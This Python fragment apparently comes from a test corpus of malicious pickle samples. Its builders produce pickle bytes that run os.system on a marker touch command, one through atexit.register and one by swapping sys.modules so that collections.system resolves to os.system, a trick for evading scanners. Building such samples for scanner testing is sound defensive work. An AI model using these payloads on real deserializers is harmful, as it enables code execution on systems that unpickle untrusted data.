    return program(call(G("atexit", "register"), G("os", "system"), touch_shell(marker)), proto=2)


@_sample("object_sys_modules_swap", FAMILY_OBJECT,
         "operator.setitem(sys.modules, 'collections', os): a later GLOBAL collections.system is os.system")
def _sys_modules_swap(marker: str) -> bytes:
    modules = call(G("builtins", "getattr"), call(G("builtins", "__import__"), "sys"), "modules")
    swap = call(G("operator", "setitem"), modules, "collections", call(G("builtins", "__import__"), "os"))
    a = Asm(4).emit(swap).pop()
    a.emit(call(G("collections", "system"), touch_shell(marker))).stop()
    return a.bytes()


def build(name: str, marker: str) -> bytes:
    """The bytes of sample `name` with its payload aimed at `marker`."""
    return SAMPLES[name].build(marker)


def by_family(family: int) -> list[str]:
    return [name for name, sample in SAMPLES.items() if sample.family == family]
